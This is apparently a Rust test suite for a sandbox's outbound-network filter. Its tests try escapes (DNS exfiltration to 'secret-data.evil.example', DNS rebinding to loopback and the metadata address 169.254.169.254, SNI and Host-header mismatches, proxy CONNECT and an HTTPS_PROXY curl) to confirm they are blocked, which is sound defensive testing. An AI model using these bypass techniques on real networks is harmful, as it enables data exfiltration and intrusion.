//! Ways out that a program inside may try, each beside the same act outside, which succeeds.

use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::world::*;

/// Connects to `HOST PORT`, sends what is given in hexadecimal, prints what comes back.
fn exchange(host: &str, port: u16, bytes: &[u8]) -> String {
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    python(&format!(
        "
try:
    s = socket.create_connection(('{host}', {port}), timeout=20)
    s.sendall(bytes.fromhex('{hex}'))
    s.settimeout(5)
    print(s.recv(4000))
except OSError as e:
    print(type(e).__name__)
"
    ))
}

#[test]
fn an_address_without_a_name_is_refused_at_once() {
    in_a_world!();
    let world = World::new();
    greet(&format!("{OTHER}:443"), "got out");
    greet("[2a00:db8::10]:443", "got out");
    let mut sandbox = world.sandbox(&["a.example"]);
    let attempts: String = [
        OTHER,
        "2a00:db8::10",
        "::ffff:203.0.113.20",
        "127.0.0.1",
        PRIVATE,
    ]
    .map(|host| exchange(host, 443, b"x"))
    .concat();
    let start = Instant::now();
    let printed = sandbox.run(&attempts);
    assert_eq!(printed, ["ConnectionRefusedError"; 5].join("\n"));
    assert!(start.elapsed() < Duration::from_secs(60), "no time-outs");
    let told = "203.0.113.20:443: not in allow_net";
    assert!(sandbox.events().iter().any(|e| e.starts_with(told)));
    for host in [OTHER, "2a00:db8::10"] {
        let control = outside(&exchange(host, 443, b"x"));
        assert_eq!(control, "b'got out'");
    }
}

#[test]
fn udp_and_icmp_go_nowhere() {
    in_a_world!();
    let world = World::new();
    let heard = answer_udp((OTHER, 443), |_| b"got out".to_vec());
    let udp = python(&format!(
        "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.connect(('{OTHER}', 443)); s.send(b'x'); print(s.recv(99))
except OSError as e:
    print(type(e).__name__)
"
    ));
    let ping = python(&format!(
        "
import struct
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.connect(('{OTHER}', 0))
    s.send(struct.pack('!BBHHH', 8, 0, 0xf7ff, 0, 0))
    print('answer' if s.recv(99) else '')
except OSError as e:
    print(type(e).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print('raw')
except OSError as e:
    print(type(e).__name__)
"
    ));
    let mut sandbox = world.sandbox(&["*"]);
    let printed = sandbox.run(&format!("{udp}{ping}"));
    assert_eq!(
        printed,
        "ConnectionRefusedError\nTimeoutError\nPermissionError"
    );
    assert_eq!(heard.load(Ordering::SeqCst), 0);
    let told = "203.0.113.20:443: UDP is not carried";
    assert!(sandbox.events().iter().any(|e| e.starts_with(told)));
    assert_eq!(outside(&udp), "b'got out'");
    assert!(outside(&ping).contains("raw"));
}

#[test]
fn no_dns_server_is_asked_for_the_program() {
    in_a_world!();
    let world = World::new();
    // A server of the attacker's, on the port of DNS.
    let heard = answer_udp((OTHER, 53), |question| {
        let mut answer = question.to_vec();
        answer[2] |= 0x80;
        answer
    });
    let ask = |server: &str, name: &str, kind: u8| {
        python(&format!(
            "
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\0\\0\\0\\0\\0\\0'
q += b''.join(bytes([len(l)]) + l for l in '{name}'.encode().split(b'.')) + b'\\0\\0\\x{kind:02x}\\0\\x01'
family = socket.AF_INET6 if ':' in '{server}' else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.sendto(q, ('{server}', 53))
    r, peer = s.recvfrom(999)
    print(peer[0], r[3] & 15, len(r) > len(q))
except OSError as e:
    print(type(e).__name__)
"
        ))
    };
    let mut script = String::new();
    for (server, name, kind) in [
        (OTHER, "secret-data.evil.example", 1),
        (OTHER, "secret-data.evil.example", 16),
        ("2a00:db8::53", "secret-data.evil.example", 1),
        (OTHER, "secret-data.a.example", 1),
        (OTHER, "a.example", 16),
        (OTHER, "a.example", 1),
    ] {
        script += &ask(server, name, kind);
    }
    let mut sandbox = world.sandbox(&["a.example"]);
    let expected = "203.0.113.20 3 False\n203.0.113.20 3 False\n2a00:db8::53 3 False\n\
                    203.0.113.20 3 False\n203.0.113.20 0 False\n203.0.113.20 0 True";
    assert_eq!(sandbox.run(&script), expected);
    assert_eq!(heard.load(Ordering::SeqCst), 0, "the attacker's server");
    let asked = world.asked();
    assert!(asked.iter().all(|name| name == "a.example"), "{asked:?}");
    assert_eq!(
        outside(&ask(OTHER, "secret.evil.example", 1)),
        "203.0.113.20 0 False"
    );
    assert_eq!(heard.load(Ordering::SeqCst), 1);
}

#[test]
fn a_name_that_leads_to_the_host_is_guarded() {
    in_a_world!();
    let world = World::new();
    greet("127.0.0.1:6379", "got out");
    greet(&format!("{PRIVATE}:6379"), "got out");
    let names = [
        "rebind.example",
        "mapped.example",
        "inner.example",
        "metadata.example",
    ];
    let attempts: String = names.map(|name| exchange(name, 6379, b"x")).concat();
    let mut sandbox = world.sandbox(&["*.example"]);
    let printed = sandbox.run(&attempts);
    assert_eq!(printed, ["ConnectionResetError"; 4].join("\n"));
    let told = [
        "rebind.example:6379: leads to 127.0.0.1, a loopback address",
        "mapped.example:6379: leads to 127.0.0.1, a loopback address",
        "inner.example:6379: leads to 10.66.0.1, a private address",
        "metadata.example:6379: leads to 169.254.169.254, a link-local address",
    ];
    let events = sandbox.events();
    for (event, told) in events.iter().zip(told) {
        assert!(event.starts_with(told), "{events:?}");
    }
    // With the address named, the same name gets there: it is there.
    let mut sandbox = world.sandbox(&["*.example", "10.66.0.1:6379"]);
    let control = sandbox.run(&exchange("inner.example", 6379, b"x"));
    assert_eq!(control, "b'got out'");
}

#[test]
fn a_name_that_turns_to_the_host_later_is_guarded_then() {
    in_a_world!();
    let world = World::new();
    greet(&format!("{SERVER}:6379"), "public");
    greet("127.0.0.1:6379", "got out");
    let mut sandbox = world.sandbox(&["a.example"]);
    let twice = |pause: u32| {
        format!(
            "{}sleep {pause}; {}",
            exchange("a.example", 6379, b"x"),
            exchange("a.example", 6379, b"x")
        )
    };
    sandbox.start(&twice(7));
    thread::sleep(Duration::from_secs(2));
    world.name("a.example", &["127.0.0.1"]);
    assert_eq!(sandbox.finish(), "b'public'\nConnectionResetError");
}

/// A ClientHello that asks for `name`.
fn hello(name: &str) -> Vec<u8> {
    let number = |n: usize| (n as u16).to_be_bytes().to_vec();
    let name = [vec![0], number(name.len()), name.as_bytes().to_vec()].concat();
    let list = [number(name.len()), name].concat();
    let extension = [vec![0, 0], number(list.len()), list].concat();
    let extensions = [number(extension.len()), extension].concat();
    let start = [&[3u8, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0]].concat();
    let body = [start, extensions].concat();
    let message = [vec![1, 0], number(body.len()), body].concat();
    [vec![22, 3, 1], number(message.len()), message].concat()
}

#[test]
fn tls_for_another_server_does_not_pass() {
    in_a_world!();
    let world = World::new();
    echo(&format!("{SERVER}:443"), "");
    echo(&format!("{SERVER}:8443"), "");
    let mut sandbox = world.sandbox(&["a.example"]);
    let own = hello("a.example");
    let mut split = own.clone();
    // The same hello in two records.
    split.splice(3..5, [0, 10]);
    split.splice(15..15, [22, 3, 1, 0, (own.len() - 15) as u8]);
    let script = [
        exchange("a.example", 443, &own),
        exchange("a.example", 443, &split),
        exchange("a.example", 443, &hello("evil.example")),
        exchange("a.example", 8443, &hello("evil.example")),
        exchange("a.example", 443, &hello("a.example\u{0}.evil.example")),
        exchange("a.example", 443, &hello("203.0.113.20")),
    ]
    .concat();
    let printed = sandbox.run(&script);
    let lines: Vec<&str> = printed.lines().collect();
    assert!(lines[0].starts_with(r"b'\x16\x03\x01"), "echoed: {printed}");
    assert!(lines[1].starts_with(r"b'\x16\x03\x01"), "echoed: {printed}");
    assert_eq!(
        lines[2..],
        [r"b'\x15\x03\x03\x00\x02\x021'"; 4],
        "alerts: {printed}"
    );
    let told = "a.example:443: TLS asks for `evil.example` on a connection to another host";
    let events = sandbox.events();
    assert_eq!(events[0], told, "{events:?}");
    let control = outside(&exchange(SERVER, 443, &hello("evil.example")));
    assert!(control.starts_with(r"b'\x16\x03\x01"), "{control}");
}

#[test]
fn http_for_another_host_does_not_pass() {
    in_a_world!();
    let world = World::new();
    web(&format!("{SERVER}:80"), "answered");
    web(&format!("{SERVER}:8080"), "answered");
    let mut sandbox = world.sandbox(&["a.example"]);
    let front = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    let second = python(
        "
s = socket.create_connection(('a.example', 80), timeout=20)
s.sendall(b'GET /1 HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n'); print(b'/1' in s.recv(999))
s.sendall(b'GET /2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
print(b'answered' in s.recv(999))
",
    );
    let script = [
        exchange("a.example", 80, front),
        exchange("a.example", 8080, front),
        exchange(
            "a.example",
            80,
            b"\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        ),
        exchange(
            "a.example",
            80,
            b"GET http://evil.example/ HTTP/1.1\r\n\r\n",
        ),
        exchange("a.example", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        second,
    ]
    .concat();
    let printed = sandbox.run(&script);
    let lines: Vec<&str> = printed.lines().collect();
    for line in &lines[..5] {
        assert!(line.starts_with("b'HTTP/1.1 403 Forbidden"), "{printed}");
    }
    assert_eq!(lines[5..], ["True", "False"], "{printed}");
    let control = outside(&exchange(SERVER, 80, front));
    assert!(control.contains("answered"), "{control}");
}

/// A proxy that takes CONNECT and goes wherever it is told.
fn obedient_proxy(address: &str) {
    serve(address, |mut client| {
        let mut buffer = [0; 4096];
        let Ok(count) = client.read(&mut buffer) else {
            return;
        };
        let request = String::from_utf8_lossy(&buffer[..count]).into_owned();
        let target = request.split(' ').nth(1).unwrap_or_default().to_owned();
        let target = target
            .replace("evil.example", OTHER)
            .replace("a.example", SERVER);
        let Ok(mut server) = TcpStream::connect(target) else {
            return;
        };
        drop(client.write_all(b"HTTP/1.1 200 OK\r\n\r\n"));
        let mut back = [0; 4096];
        let _ = server.set_read_timeout(Some(Duration::from_secs(2)));
        while let Ok(count @ 1..) = server.read(&mut back) {
            drop(client.write_all(&back[..count]));
        }
    });
}

#[test]
fn an_allowed_proxy_goes_on_to_allowed_hosts_only() {
    in_a_world!();
    let world = World::new();
    obedient_proxy("127.0.0.1:3128");
    greet(&format!("{OTHER}:443"), "got out");
    greet(&format!("{SERVER}:443"), "allowed");
    world.name("proxy.example", &["127.0.0.1"]);
    let rules = ["localhost:3128", "proxy.example:3128", "a.example:443"];
    let evil = b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n";
    let connect = |target: &str| {
        let request = format!("CONNECT {target} HTTP/1.1\\r\\n\\r\\n");
        python(&format!(
            "
s = socket.create_connection(('127.0.0.1', 3128), timeout=20)
s.sendall(b'{request}'); s.settimeout(5)
got = b''
while True:
    more = s.recv(999)
    if not more: break
    got += more
print(got)
"
        ))
    };
    let mut sandbox = world.sandbox(&rules);
    let script = [
        connect("a.example:443"),
        connect("evil.example:443"),
        connect("203.0.113.20:443"),
        exchange("proxy.example", 3128, evil),
        exchange("host.aigate.internal", 3128, evil),
        exchange("127.0.0.1", 3128, b"\x05\x01\x00"),
        // Variables that a program sets lead it to the same place.
        "HTTPS_PROXY=http://127.0.0.1:3128 curl -sS -m 20 https://evil.example/ 2>&1; ".to_owned(),
        "HTTPS_PROXY=http://203.0.113.20:443 curl -sS -m 20 https://evil.example/ 2>&1".to_owned(),
    ]
    .concat();
    let printed = sandbox.run(&script);
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(lines[0], r"b'HTTP/1.1 200 OK\r\n\r\nallowed'", "{printed}");
    for line in &lines[1..5] {
        assert!(line.starts_with("b'HTTP/1.1 403"), "{printed}");
    }
    assert_eq!(lines[5], "ConnectionResetError", "SOCKS: {printed}");
    assert!(
        lines[6].contains("403") || lines[6].contains("CONNECT"),
        "{printed}"
    );
    assert!(!printed.contains("got out"), "{printed}");
    let control = outside(&connect("203.0.113.20:443"));
    assert!(control.contains("got out"), "{control}");
}

#[test]
fn odd_names_are_nobodys() {
    in_a_world!();
    let world = World::new();
    web(&format!("{SERVER}:80"), "server a");
    // A server of the attacker's, which hears what really leaves.
    let socket = UdpSocket::bind((OTHER, 53)).expect("socket");
    let heard = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&heard);
    thread::spawn(move || {
        let mut buffer = [0; 512];
        while let Ok((length, from)) = socket.recv_from(&mut buffer) {
            count.fetch_add(1, Ordering::SeqCst);
            drop(socket.send_to(&buffer[..length], from));
        }
    });
    let ask = |labels: &str| {
        python(&format!(
            "
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\0\\0\\0\\0\\0\\0'
q += b''.join(bytes([len(l)]) + l for l in {labels}) + b'\\0\\0\\x01\\0\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ('{OTHER}', 53)); r = s.recv(999)
print(r[3] & 15, r[7])
"
        ))
    };
    let mut sandbox = world.sandbox(&["a.example"]);
    let script = [
        ask("[b'A', b'ExAmPlE']"),
        ask("[b'a.example']"),
        ask("[b'evil\\0', b'a', b'example']"),
        ask("[b'a', b'example\\0']"),
        ask("[b'a', b'example', b'evil']"),
        ask("[b'x'*63]*3"),
        ask("[b'1', b'2', b'3', b'4']"),
        ask("[b'\\xff']"),
    ]
    .concat();
    let printed = sandbox.run(&script);
    let refused = ["3 0"; 7].join("\n");
    assert_eq!(printed, format!("0 1\n{refused}"));
    assert!(world.asked().iter().all(|name| name == "a.example"));
    assert_eq!(heard.load(Ordering::SeqCst), 0);
    assert_eq!(outside(&script).lines().count(), 8, "the control arm");
    assert_eq!(heard.load(Ordering::SeqCst), 8);
}
